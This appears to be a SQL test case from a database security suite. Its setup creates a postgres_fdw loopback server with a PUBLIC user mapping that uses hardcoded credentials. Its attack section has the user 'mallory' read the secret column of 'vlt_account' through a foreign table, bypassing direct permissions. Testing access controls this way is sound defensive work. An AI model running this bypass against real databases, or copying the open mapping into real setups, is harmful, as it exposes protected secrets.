-- Makes a foreign table that leads back to the server and reads it before anybody knows of it.
-- wants: read
-- setup:
CREATE EXTENSION IF NOT EXISTS postgres_fdw;
DROP SERVER IF EXISTS loopback CASCADE;
DO $$ BEGIN
  EXECUTE format('CREATE SERVER loopback FOREIGN DATA WRAPPER postgres_fdw OPTIONS ('
    'host ''127.0.0.1'', port %L, dbname %L)', current_setting('port'), current_database());
END $$;
GRANT USAGE ON FOREIGN SERVER loopback TO mallory;
CREATE USER MAPPING FOR PUBLIC SERVER loopback OPTIONS (user 'porter', password 'porter');
-- attack:
BEGIN;
CREATE FOREIGN TABLE far (id int, secret text) SERVER loopback OPTIONS (table_name 'vlt_account');
SELECT secret FROM far;
COMMIT;
